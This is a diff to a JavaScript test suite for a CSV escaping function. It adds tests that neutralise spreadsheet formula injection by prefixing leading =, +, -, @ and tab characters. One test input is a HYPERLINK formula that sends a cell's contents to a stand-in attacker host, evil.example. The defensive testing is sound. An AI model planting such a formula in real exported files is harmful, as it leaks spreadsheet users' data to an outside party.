@@ -110,6 +110,10 @@ describe("CSV", () => {
     expect(csvField(12.5)).toBe("12.5");
     expect(csvField(undefined)).toBe("");
     expect(csvField("Mug, ceramic")).toBe('"Mug, ceramic"');
+    // A spreadsheet would run these: they go in as text, numbers stay numbers.
+    expect(csvField('=HYPERLINK("https://evil.example/?d="&B2,"open")')).toBe('"\'=HYPERLINK(""https://evil.example/?d=""&B2,""open"")"');
+    for (const lead of ["+1", "-1", "@SUM(A1)", "\tx"]) expect(csvField(lead)).toBe(`'${lead}`);
+    expect(csvField(-12.5)).toBe("-12.5");
     expect(csvField('say "hi"')).toBe('"say ""hi"""');
     expect(csvField("two\nlines")).toBe('"two\nlines"');
     expect(csvField("cr\r")).toBe('"cr\r"');
